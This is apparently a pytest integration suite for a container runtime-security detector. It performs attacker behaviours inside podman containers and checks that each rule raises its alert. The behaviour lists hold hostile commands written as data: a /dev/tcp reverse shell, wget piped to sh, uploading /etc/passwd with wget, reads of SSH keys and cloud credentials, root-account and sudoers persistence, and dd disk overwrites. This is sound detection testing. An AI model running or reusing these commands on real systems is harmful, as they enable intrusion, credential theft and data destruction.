"""The tactic rule files (services/alerter/rules/40-* ... 90-*) against real
behaviour: probe (real BPF) -> enricher -> alerter, every behaviour performed
for real in a podman container, the alert naming that container.

Behaviours are batched: a few containers (by the flags they need) each do
many things, run concurrently once for the module; each test then waits for
one rule's alert for its container. Busybox runs many applets without exec
(find, rm, mv, touch, ...), so command-line behaviours run in an inner
`sh -c '...'` (whose argv the rules read), and name-based ones through a
symlink to busybox with the tool's name. Syscalls busybox cannot make come
from tests/data/coverage_actions.c (built static, mounted at /y).
"""
import asyncio

import pytest
import pytest_asyncio

from tests.rule_containers import NO_NET, alert_for, build_static, in_container
from tests.test_default_rules import pipe  # noqa: F401 - pipe is a fixture

pytestmark = [pytest.mark.bpf, pytest.mark.podman, pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

# The enricher names a container's first processes reliably only after a moment
# (issue 8): each batch starts with a short sleep.
SETTLE = "sleep 1"


def _alias(name: str) -> str:
    return f"ln -sf /bin/busybox /tmp/{name}"


BATCHES = {
    # --- files, credentials, persistence, evasion (default flags) ---
    "files": ("", [
        SETTLE,
        "mkdir -p /root/.ssh /root/.aws /var/run/secrets/kubernetes.io/serviceaccount /var/spool/cron/crontabs "
        "/etc/sudoers.d /etc/systemd/system",
        "echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null",
        "echo key >> /root/.ssh/authorized_keys",
        "echo x > /root/.aws/credentials; cat /root/.aws/credentials >/dev/null",
        "echo t > /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null",
        "cat /proc/1/environ >/dev/null",
        "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null",
        "head -c1 /proc/kcore >/dev/null 2>&1",
        "cat /proc/sys/kernel/randomize_va_space >/dev/null",
        "echo '* * * * * id' > /var/spool/cron/crontabs/root",
        "echo id >> /root/.profile",
        "echo /tmp/none.so > /etc/ld.so.preload; rm -f /etc/ld.so.preload",
        "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd",
        "echo 'evil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/evil",
        "echo '[Service]' > /etc/systemd/system/evil.service",
        "echo h > /root/.ash_history; rm /root/.ash_history",
        "mv /bin/ls /bin/ls.bak",
        "cp /bin/busybox /tmp/.hidden; /tmp/.hidden true 2>/dev/null",
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null",
        "echo /tmp/x > /sys/kernel/uevent_helper 2>/dev/null",
        "echo 1 > /tmp/notify_on_release",
        "echo x > /proc/1/mem 2>/dev/null",
        "dd if=/dev/zero of=/dev/sdz count=0 2>/dev/null",
        "true",
    ]),
    # --- command lines (each in its own short sh -c) and renamed tools ---
    "commands": ("", [
        SETTLE,
        "sh -c 'grep -r aws_secret_access_key /etc; grep -ri password /etc' >/dev/null",
        "sh -c 'echo ZWNobyBoaQo= | base64 -d | sh' >/dev/null",
        "sh -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null",
        "sh -c 'LD_PRELOAD=/tmp/evil.so true'",
        "sh -c 'wget -qO- http://127.0.0.1:9/i.sh | sh' 2>/dev/null",
        "sh -c 'touch -d 2020-01-01 /tmp/stamp'",
        "sh -c 'setenforce 0' 2>/dev/null",
        "sh -c 'xmrig -o stratum+tcp://pool.example:3333 --donate-level 1' 2>/dev/null",
        "sh -c './deepce.sh' 2>/dev/null",
        "sh -c 'find /bin -perm -4000' >/dev/null",
        "sh -c 'chroot / true'",
        "sh -c 'modprobe -a evil' 2>/dev/null",
        "sh -c 'rm -rf /srv/ 2>/dev/null'",
        "sh -c 'debugfs -R ls /dev/sdz' 2>/dev/null",
        "sh -c 'dd if=/dev/zero of=/dev/sdy count=0 2>/dev/null'",
        "sh -c 'env GLIBC_TUNABLES=glibc.malloc.mxfast=1 true'",
        f"{_alias('xmrig')}; /tmp/xmrig 2>/dev/null",
        f"{_alias('mimipenguin')}; /tmp/mimipenguin 2>/dev/null",
        f"{_alias('tcpdump')}; /tmp/tcpdump -i any 2>/dev/null",
        f"{_alias('nmap')}; /tmp/nmap -sS 10.0.0.1 2>/dev/null",
        f"{_alias('kubectl')}; /tmp/kubectl get pods 2>/dev/null",
        f"{_alias('ssh')}; /tmp/ssh root@10.0.0.1 2>/dev/null",
        f"{_alias('rsync')}; /tmp/rsync -a /etc u@10.0.0.1:/x 2>/dev/null",
        f"{_alias('sudo')}; /tmp/sudo -i 2>/dev/null",
        "nc -l -p 4445 >/dev/null 2>&1 & L=$!; sleep 0.3; kill $L",
        "true",
    ]),
    # --- connections (no network: connects fail, the attempt is the event) ---
    "network": (NO_NET, [
        SETTLE,
        "nc -w 1 169.254.170.2 80 </dev/null",
        "nc -w 1 10.96.0.1 443 </dev/null",
        "nc -w 1 10.0.0.5 10250 </dev/null",
        "nc -w 1 203.0.113.7 3333 </dev/null",
        "wget -q -O /tmp/x http://203.0.113.5/x",
        "sh -c 'wget -q --post-file=/etc/passwd http://203.0.113.5/'",
        "sh -c 'wget -qO- https://kubernetes.default.svc/api/v1/namespaces'",
        "true",
    ]),
    # --- syscalls from the helper; parents named like servers ---
    "helper": (NO_NET, [
        SETTLE,
        "/y/actions ptrace-poke >/dev/null",
        "/y/actions unix-connect /var/run/docker.sock >/dev/null",
        "/y/actions exec-as '[kworker/0:1]' /y/actions 2>/dev/null",
        "cp /y/actions /tmp/nginx; /tmp/nginx spawn /bin/sh -c true",
        "/tmp/nginx spawn /usr/bin/wget -q -T 1 http://203.0.113.5/",
        "cp /y/actions /tmp/mysqld; /tmp/mysqld spawn /bin/cat /etc/hostname >/dev/null",
        "ln -sf /bin/busybox /tmp/ssh; /y/actions exec-as nc /tmp/ssh -w 1 203.0.113.9 443 </dev/null",
        "mkdir -p /tmp/m; ln -sf /bin/busybox /tmp/m/cat",
        "/y/actions exec-as nc /tmp/m/cat -w 1 203.0.113.9 80 </dev/null",
        "true",
    ]),
    # --- the probe events of issue 9: exec environment (variables exported in a script,
    # never on a command line), truncation, chown, process_vm_*, umount, a granted setuid(0) ---
    "events": (NO_NET, [
        SETTLE,
        "printf 'export LD_PRELOAD=/tmp/evil.so\\n/bin/cat /dev/null\\n' > /tmp/p.sh; sh /tmp/p.sh",
        "printf 'export LD_LIBRARY_PATH=/dev/shm/lib\\n/bin/cat /dev/null\\n' > /tmp/l.sh; sh /tmp/l.sh",
        "printf 'export HISTFILE=/dev/null\\n/bin/sh -c true\\n' > /tmp/h.sh; sh /tmp/h.sh",
        "printf 'export GLIBC_TUNABLES=glibc.malloc.mxfast=1\\n/bin/cat /dev/null\\n' > /tmp/g.sh; sh /tmp/g.sh",
        "printf 'export http_proxy=http://203.0.113.9:3128\\nwget -q -T 1 http://203.0.113.5/\\n' > /tmp/w.sh; "
        "sh /tmp/w.sh 2>/dev/null",
        "echo h >> /root/.bash_history; truncate -s 0 /root/.bash_history",
        "mkdir -p /var/log/app; echo l >> /var/log/app/a.log; truncate -s 0 /var/log/app/a.log",
        "chown 65534 /etc/shadow",
        "umount /proc/kcore 2>/dev/null",
        "/y/actions procvm-read >/dev/null",
        "/y/actions wxmem >/dev/null",
        "/y/actions procvm-write >/dev/null",
        "/y/actions suid-sim >/dev/null",
        "true",
    ]),
    # --- a terminal: `run -t`, as `exec -it` gives a shell ---
    "tty": (["-t"], [
        SETTLE,
        "/usr/bin/id >/dev/null; /bin/hostname >/dev/null",
        "true",
    ]),
    # --- a non-root user asking for root ---
    "uffd": (["--user", "65534:65534", "--security-opt", "seccomp=unconfined"], [  # podman's profile refuses it
        SETTLE,
        "/y/actions userfaultfd >/dev/null",
        "true",
    ]),
    "nonroot": (["--user", "65534:65534"], [
        SETTLE,
        "/y/actions setuid0 >/dev/null",
        "true",
    ]),
}

EXPECTED = [
    # 40 credential access
    ("files", "Read ssh information"),
    ("files", "Read cloud or cluster credentials file"),
    ("files", "K8s service account token read"),
    ("files", "Read environment variable from /proc files"),
    ("files", "Process memory read via /proc"),
    ("files", "Read kernel memory"),
    ("commands", "Find AWS Credentials"),
    ("commands", "Search for passwords or secrets"),
    ("commands", "Credential dumping tool launched"),
    ("network", "Contact cloud metadata service (alternate address)"),
    # 45 execution
    ("commands", "Reverse shell command line"),
    ("commands", "Remote script piped to shell"),
    ("commands", "Launch Suspicious Network Tool in Container"),
    ("commands", "Netcat listener in container"),
    ("commands", "Kubernetes Client Tool Launched in Container"),
    ("network", "Launch Ingress Remote File Copy Tools in Container"),
    ("helper", "Run shell untrusted"),
    ("helper", "Web Server Spawned Suspicious Child Process"),
    ("helper", "DB program spawned process"),
    # 50 persistence
    ("files", "Schedule Cron Jobs"),
    ("files", "Modify Shell Configuration File"),
    ("files", "Adding ssh keys to authorized_keys"),
    ("files", "LD_PRELOAD code injection via ld.so.preload"),
    ("files", "Modify user accounts database"),
    ("files", "Sudoers modification"),
    ("files", "Systemd service created or modified"),
    ("files", "Create files below dev"),
    ("commands", "Library preload set on command line"),
    ("commands", "Kernel module tool run in container"),
    # 60 defence evasion
    ("files", "Delete or rename shell history"),
    ("files", "Modify binary dirs"),
    ("files", "Container Drift Detected (open+create)"),
    ("files", "Hidden executable created"),
    ("files", "Executable run from a hidden path"),
    ("commands", "Decoding Payload in Container"),
    ("commands", "Decoded payload piped to a shell"),
    ("commands", "Security tooling disabled"),
    ("commands", "Timestomping in container"),
    ("helper", "Process masquerading as kernel thread"),
    # 70 discovery and lateral movement
    ("files", "Kernel information read in container"),
    ("commands", "Network scanner launched"),
    ("commands", "Container escape or discovery toolkit launched"),
    ("commands", "Search for setuid binaries"),
    ("commands", "SSH client launched in container"),
    ("network", "Contact K8S API Server From Container"),
    ("network", "K8s API access from container command line"),
    ("network", "Contact kubelet or etcd from container"),
    ("helper", "Disallowed SSH Connection Non Standard Port"),
    ("helper", "System procs network activity"),
    # 80 exfiltration and impact
    ("commands", "Detect crypto miners using the Stratum protocol"),
    ("commands", "Known Cryptominer Process Executed"),
    ("commands", "Cryptominer command-line options"),
    ("commands", "Launch Remote File Copy Tools in Container"),
    ("commands", "Recursive deletion of system directories"),
    ("network", "Detect outbound connections to common miner pool ports"),
    ("network", "Data upload with command-line HTTP client"),
    ("commands", "Disk overwritten with dd"),
    # 90 privilege escalation
    ("commands", "Sudo or su run in container"),
    ("commands", "Namespace or chroot tool launched in container"),
    ("commands", "Debugfs Launched in Container"),
    ("files", "Core pattern modification"),
    ("files", "Kernel usermode helper modification"),
    ("files", "Write to /proc/sys in container"),
    ("files", "Cgroup notify_on_release modification"),
    ("files", "Privileged Container Device Access"),
    ("files", "Code injection via /proc/pid/mem"),
    ("helper", "PTRACE code injection"),
    ("helper", "Container runtime socket access from container"),
    ("commands", "Potential Local Privilege Escalation via Environment Variables Misuse"),
    ("nonroot", "Non sudo setuid"),
]


@pytest.fixture(scope="module")
def helper_mount(tmp_path_factory):
    """tests/data/coverage_actions.c built static, in a folder to mount at /y."""
    return build_static(tmp_path_factory, "coverage_actions.c", "/y")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def batches(pipe, helper_mount):  # noqa: F811 - the imported fixture
    """Run every batch container once, concurrently; {batch: full container id}."""
    names = list(BATCHES)

    async def one(name):
        flags, steps = BATCHES[name]
        extra = helper_mount if name in ("helper", "nonroot", "events", "uffd") else []
        return await in_container("\n".join(steps), [*flags, *extra])
    cids = await asyncio.gather(*(one(n) for n in names))
    return dict(zip(names, cids))


@pytest.mark.parametrize("batch,rule", EXPECTED, ids=[f"{i}-{r}" for i, (_, r) in enumerate(EXPECTED)])
async def test_behaviour_raises_its_alert(pipe, batches, batch, rule):  # noqa: F811
    cid = batches[batch]
    a = await alert_for(pipe, rule, cid, timeout=30)
    assert a["event"]["container"]["id"] == cid and cid[:12] in a["output"]
    assert a["priority"] and any(t.startswith("mitre_") for t in a["tags"])


# (batch, rule, the event kind that must have raised it): rules on the probe events of issue 9
EXPECTED_EVENTS = [
    ("events", "LD_PRELOAD in exec environment", "exec"),
    ("events", "Library search path in a writable directory", "exec"),
    ("events", "Shell history disabled in the environment", "exec"),
    ("events", "Potential Local Privilege Escalation via Environment Variables Misuse", "exec"),
    ("events", "Program run with disallowed http proxy env", "exec"),
    ("events", "Delete or rename shell history", "truncate"),
    ("events", "Clear log activities", "truncate"),
    ("events", "Sensitive file ownership changed", "chown"),
    ("events", "Unmount in container", "umount"),
    ("events", "Process memory read via process_vm_readv", "procvm"),
    ("events", "Process VM write code injection", "procvm"),
    ("events", "Non sudo setuid", "setuid"),
    ("events", "Writable and executable memory in container", "mprotect"),
    ("uffd", "Unprivileged Delegation of Page Faults Handling to a Userspace Process", "userfaultfd"),
    ("tty", "Terminal shell in container", "exec"),
    ("tty", "Basic Interactive Reconnaissance", "exec"),
]


@pytest.mark.parametrize("batch,rule,kind", EXPECTED_EVENTS, ids=[r for _, r, _ in EXPECTED_EVENTS])
async def test_new_probe_events_raise_their_alerts(pipe, batches, batch, rule, kind):  # noqa: F811
    cid = batches[batch]
    a = await alert_for(pipe, rule, cid, timeout=30)
    ev = a["event"]
    assert ev["kind"] == kind and ev["container"]["id"] == cid and cid[:12] in a["output"]
    assert a["priority"] and any(t.startswith("mitre_") for t in a["tags"])
    proc = ev["proc"]
    if rule == "LD_PRELOAD in exec environment":  # seen in the environment only: argv never names it
        assert proc["env"]["LD_PRELOAD"] == "/tmp/evil.so" and "LD_PRELOAD" not in proc["cmdline"]
        assert proc["name"] == "cat"
    if kind == "truncate":  # ftruncate's fd named from the open the enricher saw
        assert ev["path"] in ("/root/.bash_history", "/var/log/app/a.log") and ev["length"] == 0
        assert ev.get("path_from_fd") is True  # busybox runs truncate inside the shell: proc may be sh
    if rule == "Non sudo setuid":  # granted: the caller's real uid was 65534 before the call
        assert (ev["uid"], ev["new_uid"], ev["ret"]) == (65534, 0, 0)
    if batch == "tty":
        assert proc["tty"] >> 8 == 136  # a /dev/pts terminal


async def test_exec_with_a_terminal_into_a_running_container(pipe):  # noqa: F811
    """`podman exec -t` (what `kubectl exec -it` does): the shell it starts has a
    terminal and the runtime for parent; the same exec without -t raises nothing."""
    import uuid

    from tests import containers
    name = f"eunomia-tty-{uuid.uuid4().hex[:8]}"
    try:
        await asyncio.to_thread(containers.run, ["sleep", "60"], name=name, detach=True, flags=NO_NET)
        cid = await asyncio.to_thread(containers.inspect_id, name)
        await asyncio.sleep(1)
        for tty in ([], ["-t"]):
            await asyncio.to_thread(containers.run_bounded, [*containers.PODMAN, "exec", *tty, name, "sh", "-c",
                                                             "sleep 0.5; /usr/bin/id"], 60)
        a = await alert_for(pipe, "Terminal shell in container", cid, timeout=30)
        assert a["event"]["proc"]["tty"] >> 8 == 136 and a["event"]["proc"]["name"] == "sh"
        recon = await alert_for(pipe, "Basic Interactive Reconnaissance", cid, timeout=30)
        assert recon["event"]["proc"]["name"] == "id"
        await asyncio.sleep(2)
        mine = pipe._by_subject["eunomia.alert.>"].matching(
            lambda x: (x.get("container") or {}).get("id") == cid and x["rule"] in (
                "Terminal shell in container", "Basic Interactive Reconnaissance"))
        assert len(mine) == 2, [x["output"] for x in mine]  # the exec without a terminal raised neither
    finally:
        await asyncio.to_thread(containers.remove, name)


async def test_ordinary_container_activity_raises_nothing(pipe):  # noqa: F811
    """Busybox scripts of the kind images run (start-up, health checks, log
    rotation, tar, file writes, a library path, chown and truncation of app
    files): with every default rule loaded, the only
    alert is the sentinel that ends the script."""
    script = "\n".join([
        SETTLE,
        "ls / >/dev/null; cat /etc/hostname >/dev/null; echo hi > /tmp/out; date >/dev/null",
        "grep -q root /etc/passwd; cat /proc/self/status >/dev/null; cat /proc/meminfo >/dev/null",
        "wget -q --spider http://127.0.0.1:9/health 2>/dev/null; nc -z 127.0.0.1 9 2>/dev/null",
        "mkdir -p /var/log/app /srv/data; echo line >> /var/log/app/app.log",
        "mv /var/log/app/app.log /var/log/app/app.log.1; rm -f /var/log/app/app.log.1",
        "tar czf /tmp/etc.tgz /etc/hostname; tar xzf /tmp/etc.tgz -C /srv/data",
        "echo 'echo ok' > /tmp/job.sh; chmod 644 /tmp/job.sh; touch /tmp/x",
        "export LD_LIBRARY_PATH=/usr/local/lib; /bin/cat /dev/null; chown 65534 /tmp/out; truncate -s 0 /tmp/out",
        "sleep 0.2; cat /etc/shadow >/dev/null",
    ])
    cid = await in_container(script, check=True)
    await alert_for(pipe, "Read sensitive file", cid)
    mine = pipe._by_subject["eunomia.alert.>"].matching(lambda a: (a.get("container") or {}).get("id") == cid)
    assert [a["rule"] for a in mine] == ["Read sensitive file"], [a["output"] for a in mine]
